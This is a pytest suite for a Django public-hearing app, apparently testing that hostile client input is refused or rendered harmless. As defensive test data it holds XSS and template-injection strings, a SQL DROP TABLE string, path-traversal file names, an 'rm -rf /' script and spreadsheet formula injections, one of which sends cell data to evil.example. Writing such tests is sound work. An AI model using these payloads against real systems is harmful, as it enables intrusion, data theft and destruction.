"""The hostile-input suite: what a malicious or broken client sends, through the answer
form, the responses API and uploads. Every case asserts no server error (no 5xx) and
that nothing is wrongly accepted: a refused answer stores nothing, an accepted one is
stored as text and shown escaped, another person's answer, draft or file stays hidden.
"""

import io
import json
import uuid
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from hearings.exports.tabular import rows
from hearings.models import HearingResponse, ResponseAttachment, ResponseStatus
from tests.fixtures.clamd import EICAR
from tests.responding.conftest import docx_bytes, pdf_bytes, valid_post

from .conftest import answers, signed_in, submit_as

pytestmark = pytest.mark.django_db


def api_post(client, path, body, content_type="application/json", **headers):
    data = body if isinstance(body, (bytes, str)) else json.dumps(body)
    return client.post(path, data, content_type=content_type, **headers)


def no_server_error(reply):
    assert reply.status_code < 500, reply.content[:500]
    return reply


# API answers of the wrong type or out of range: refused with 400, nothing stored ------

WRONG_ANSWERS = [
    ("short", "x" * 51),  # longer than max_length 50
    ("short", ["a list"]),
    ("short", {"an": "object"}),
    ("short", True),
    ("long", "x" * 201),
    ("long", [["nested"]]),
    ("single", "no-such-option"),
    ("single", ["two"]),
    ("single", {"id": "two"}),
    ("single", 2),
    ("single", ""),
    ("multi", "pc"),
    ("multi", ["pc", "phone", "screen"]),  # above max_choices 2
    ("multi", ["nope"]),
    ("multi", []),  # below min_choices 1
    ("multi", [["pc"]]),
    ("multi", {"pc": True}),
    ("scale", 0),
    ("scale", 6),
    ("scale", -1),
    ("scale", 4.5),
    ("scale", "four"),
    ("scale", 1e308),
    ("scale", 2**70),
    ("scale", [4]),
    ("scale", True),
    ("yesno", "maybe"),
    ("yesno", True),
    ("yesno", 1),
    ("consent", "yes"),
    ("consent", False),
    ("consent", "true"),
    ("behalf", 1),
    ("behalf", ["myself"]),
    ("behalf", {"kind": "the-mayor"}),
    ("behalf", {"kind": "organisation"}),  # no name
    ("behalf", {"kind": "department", "name": "Borgmesterens kontor"}),
    ("behalf", {"kind": "organisation", "name": "x" * 301}),
    ("files", "1"),
    ("files", [999999]),
    ("files", ["abc"]),
    ("files", [{"id": 1}]),
    ("files", [2**70]),
    ("files", {"0": 1}),
    ("no-such-question", "x"),
    ("<script>", "x"),
    ("", "x"),
]


@pytest.mark.parametrize("question, value", WRONG_ANSWERS)
def test_a_wrong_api_answer_is_refused(hearing, people, question, value):
    client = signed_in(people["employee"])
    body = {"answers": answers(**{question: value})} if question else {"answers": {"": value}}
    reply = no_server_error(api_post(client, f"/api/v1/hearings/{hearing.pk}/responses", body))
    assert reply.status_code == 400, (question, value, reply.content)
    assert not HearingResponse.objects.exists()


# Bodies that are not the documented JSON: refused, never a 500 ----------------------------

BROKEN_BODIES = [
    (b"\xff\xfe\xfa", "application/json"),
    (b'{"answers": {"long": "abc"', "application/json"),
    (b"[]", "application/json"),
    (b"null", "application/json"),
    (b'"answers"', "application/json"),
    (b"1e400", "application/json"),
    (b'{"answers": NaN}', "application/json"),
    (b'{"answers": {"long": "\\ud800"}}', "application/json"),
    (b'{"answers": {"long": "\\u0000"}}', "application/json"),
    (b'{"answers": {"long": "ok\\udfff"}}', "application/json"),
    ('{"answers": {"long": "\u00e6"}}'.encode("utf-16"), "application/json"),
    (b'{"answers": "not an object"}', "application/json"),
    (b'{"answers": [1, 2]}', "application/json"),
    (b"[" * 100_000 + b"]" * 100_000, "application/json"),
    (b'{"answers": ' + b'{"a":' * 5000 + b"1" + b"}" * 5001, "application/json"),
    (b"answers=1&long=x", "application/x-www-form-urlencoded"),
    (b"<answers><long>x</long></answers>", "application/xml"),
    (b'{"answers": {}}', "text/plain"),
]


@pytest.mark.parametrize("body, content_type", BROKEN_BODIES)
def test_a_broken_body_is_refused_without_a_server_error(hearing, people, body, content_type):
    client = signed_in(people["employee"])
    client.raise_request_exception = False
    for path in (
        f"/api/v1/hearings/{hearing.pk}/responses",
        f"/api/v1/hearings/{hearing.pk}/draft",
    ):
        method = client.post if path.endswith("responses") else client.put
        reply = no_server_error(method(path, body, content_type=content_type))
        assert reply.status_code in (400, 413, 415, 422), (path, reply.status_code)
    assert not HearingResponse.objects.exists()


# Text that is accepted, but only as text: escaped on every page, inert in every export ---

ACCEPTED_AS_TEXT = [
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ request.user.password }}",
    "{% debug %}",
    "'; DROP TABLE hearings_hearingresponse; --",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "\u202eevil\u202c",  # right-to-left override: allowed text, shown as text
    "😀" * 50,
]


@pytest.mark.parametrize("text", ACCEPTED_AS_TEXT)
def test_hostile_text_is_stored_as_text_and_shown_escaped(hearing, people, text):
    client = signed_in(people["employee"])
    reply = client.post(hearing.url, valid_post(uuid.uuid4(), **{"q-long": text}))
    assert reply.status_code == 302
    response = HearingResponse.objects.get()
    assert response.answers["long"]["value"] == text
    receipt = client.get(reply["Location"]).content.decode()
    assert "<script>alert" not in receipt and "<svg/onload" not in receipt
    assert "<img src=x" not in receipt
    cells = list(rows(hearing))[1]
    for cell in cells:
        start = cell.lstrip(" \u00a0\u200b")[:1] if isinstance(cell, str) else ""
        if start and start in "=+-@\uff1d":
            assert cell.startswith("'"), cell


# Uploads: disguised, broken, infected ---------------------------------------------------

EXECUTABLE = b"MZ\x90\x00\x03" + b"\x00" * 64 + b"PE\x00\x00"
REFUSED_UPLOADS = [
    ("svar.pdf", EXECUTABLE),
    ("svar.exe", EXECUTABLE),
    ("svar.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 40),
    (
        "billede.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\x00',
    ),
    ("arkiv.docx", b"PK\x03\x04" + b"\x00" * 40),  # a broken zip
    ("tom.pdf", b""),
    ("makro.docx", None),  # filled in below: a docx with vbaProject.bin
    ("script.sh", b"#!/bin/sh\x00rm -rf /"),
    ("gif.png", b"GIF89a\x01\x00\x01\x00"),
    ("utf16.txt", "tekst".encode("utf-16")),
]


def _macro_docx():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return buffer.getvalue()


@pytest.mark.parametrize("name, content", REFUSED_UPLOADS)
def test_a_disguised_or_broken_file_is_refused(hearing, people, name, content):
    content = _macro_docx() if content is None else content
    client = signed_in(people["employee"])
    data = valid_post(uuid.uuid4())
    data["q-files"] = SimpleUploadedFile(name, content)
    reply = no_server_error(client.post(hearing.url, data))
    assert reply.status_code == 200  # the form again, with the file's error
    assert not ResponseAttachment.objects.exists()
    assert not HearingResponse.objects.exists()


@pytest.mark.parametrize(
    "name, content",
    [
        ("virus.pdf", b"%PDF-1.4\n" + EICAR),
        ("virus.txt", EICAR),
        ("virus.docx", None),
    ],
)
def test_an_infected_file_is_refused(hearing, people, clamd, name, content):
    if content is None:  # EICAR inside an Office document
        buffer = io.BytesIO(docx_bytes())
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("word/media/eicar.com", EICAR)
        content = buffer.getvalue()
    client = signed_in(people["employee"])
    data = valid_post(uuid.uuid4())
    data["q-files"] = SimpleUploadedFile(name, content)
    page = no_server_error(client.post(hearing.url, data)).content.decode()
    assert f"{name} was refused by the virus scanner." in page
    assert not ResponseAttachment.objects.exists()


@pytest.mark.parametrize(
    "name, stored",
    [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        ("rapport.pdf.exe", "rapport.pdf.pdf"),
        ("<script>.pdf", "script.pdf"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
        ("nul\x00.pdf", "nul.pdf"),
        ("\u202egpj.pdf", "gpj.pdf"),
    ],
)
def test_a_hostile_file_name_is_made_safe(hearing, people, name, stored):
    client = signed_in(people["employee"])
    data = valid_post(uuid.uuid4())
    data["q-files"] = SimpleUploadedFile(name, pdf_bytes())
    reply = no_server_error(client.post(hearing.url, data))
    assert reply.status_code == 302
    attachment = ResponseAttachment.objects.get()
    assert attachment.name == stored
    assert "/" not in attachment.file.name.split("attachments/", 1)[1].split("/", 2)[-1]


# Another person's answer, draft and files: 404 to everybody else --------------------------

INTRUDERS = ["anonymous", "outsider", "colleague"]


@pytest.fixture
def victim(hearing, people):
    """Emma's handed-in answer with a file, and Jonas's draft with a file."""
    writer = signed_in(people["employee"])
    data = valid_post(uuid.uuid4())
    data["q-files"] = SimpleUploadedFile("emma.pdf", pdf_bytes())
    assert writer.post(hearing.url, data).status_code == 302
    other = signed_in(people["colleague"])
    data = valid_post(uuid.uuid4(), action="draft")
    data["q-files"] = SimpleUploadedFile("jonas.pdf", pdf_bytes())
    assert other.post(hearing.url, data).status_code == 302
    return {
        "answer": HearingResponse.objects.get(respondent=people["employee"]),
        "draft": HearingResponse.objects.get(respondent=people["colleague"]),
    }


def _requests(hearing, response):
    attachment = response.attachments.first()
    page = hearing.url + f"response/{response.pk}/"
    return [
        ("get", f"/api/v1/responses/{response.pk}", None),
        ("put", f"/api/v1/responses/{response.pk}", {"answers": answers(long="overtaget")}),
        ("post", f"/api/v1/responses/{response.pk}/withdraw", {}),
        ("get", page + "receipt/", None),
        ("get", page + "amend/", None),
        ("post", page + "amend/", valid_post(uuid.uuid4(), **{"q-long": "overtaget"})),
        ("post", page + "withdraw/", {}),
        ("get", reverse("hearings:attachment", args=[attachment.pk]), None),
    ]


@pytest.mark.parametrize("intruder", [*INTRUDERS, "owner", "moderator"])
@pytest.mark.parametrize("target", ["answer", "draft"])
def test_nobody_else_reads_or_changes_an_answer_or_a_draft(
    hearing, people, victim, intruder, target
):
    """Each of eight requests (API read, amend, withdraw; receipt, amend and withdraw
    pages; the file) by someone who is not the writer."""
    response = victim[target]
    if target == "draft" and intruder == "colleague":
        intruder = "employee"  # the draft is Jonas's; Emma is the other invited employee
    client = signed_in(None if intruder == "anonymous" else people[intruder])
    for method, path, body in _requests(hearing, response):
        if path.startswith("/api/"):
            if method == "get":
                reply = client.get(path)
            else:
                send = client.post if method == "post" else client.put
                reply = send(path, json.dumps(body), content_type="application/json")
        elif method == "post":
            reply = client.post(path, body)
        else:
            reply = client.get(path)
        no_server_error(reply)
        staff_reads = target == "answer" and intruder in ("owner", "moderator") and method == "get"
        if staff_reads and "/amend/" not in path:
            assert reply.status_code == 200, path
        elif intruder == "anonymous" and path.startswith("/api/"):
            assert reply.status_code == 401, path
        elif target == "answer" and intruder in ("owner", "moderator", "colleague"):
            # Staff may read a handed-in answer, never change it; nor may a colleague.
            assert reply.status_code in (302, 403, 404), (reply.status_code, path)
            if reply.status_code == 302:
                assert reply["Location"].endswith(f"/response/{response.pk}/receipt/")
        else:
            assert reply.status_code in (302, 404), (reply.status_code, path)
            if reply.status_code == 302:
                assert "/accounts/login/" in reply["Location"], path
    response.refresh_from_db()
    assert response.status in (ResponseStatus.SUBMITTED, ResponseStatus.DRAFT)
    assert "overtaget" not in json.dumps(response.answers)


# Out of the audience: nothing is stored, whichever way it is sent --------------------------


@pytest.mark.parametrize("who", ["outsider", "anonymous"])
@pytest.mark.parametrize("channel", ["form", "form-draft", "api", "api-draft", "upload"])
def test_someone_outside_the_audience_stores_nothing(hearing, people, who, channel):
    client = signed_in(None if who == "anonymous" else people[who])
    if channel.startswith("form") or channel == "upload":
        data = valid_post(uuid.uuid4(), action="draft" if channel == "form-draft" else "submit")
        if channel == "upload":
            data["q-files"] = SimpleUploadedFile("bilag.pdf", pdf_bytes())
        reply = client.post(hearing.url, data)
    elif channel == "api":
        reply = api_post(
            client, f"/api/v1/hearings/{hearing.pk}/responses", {"answers": answers()}
        )
    else:
        reply = client.put(
            f"/api/v1/hearings/{hearing.pk}/draft",
            json.dumps({"answers": answers()}),
            content_type="application/json",
        )
    no_server_error(reply)
    assert reply.status_code != 201
    assert not HearingResponse.objects.exists()
    assert not ResponseAttachment.objects.exists()


def test_an_outsider_cannot_reuse_someone_elses_file_in_an_answer(hearing, people, victim):
    attachment = victim["answer"].attachments.first()
    client = signed_in(people["colleague"])
    reply = api_post(
        client,
        f"/api/v1/hearings/{hearing.pk}/responses",
        {"answers": answers(files=[attachment.pk])},
    )
    no_server_error(reply)
    assert reply.status_code == 400
    assert HearingResponse.objects.filter(respondent=people["colleague"]).get().is_draft


def test_a_second_answer_through_the_form_is_not_stored(hearing, people):
    submit_as(people["employee"], hearing)
    client = signed_in(people["employee"])
    no_server_error(client.post(hearing.url, valid_post(uuid.uuid4())))
    assert HearingResponse.objects.count() == 1


def test_the_page_refuses_a_post_without_a_csrf_token(hearing, people):
    client = Client(enforce_csrf_checks=True)
    client.force_login(people["employee"])
    assert client.post(hearing.url, valid_post(uuid.uuid4())).status_code == 403
    reply = api_post(client, f"/api/v1/hearings/{hearing.pk}/responses", {"answers": answers()})
    assert reply.status_code == 403
    assert not HearingResponse.objects.exists()


@pytest.mark.parametrize(
    "number", ["abc", "-1", "0", "2", "99999999999999999999999999", "1e9", "%00", "1;DROP"]
)
def test_a_hostile_page_number_of_published_responses_shows_a_page(
    client, hearing, people, number
):
    from hearings.models import PublishResponses

    hearing.publish_responses = PublishResponses.AFTER_MODERATION
    hearing.save_revision().publish()
    client.force_login(people["employee"])
    answer = client.get(hearing.url, {"responses": number})
    assert answer.status_code == 200
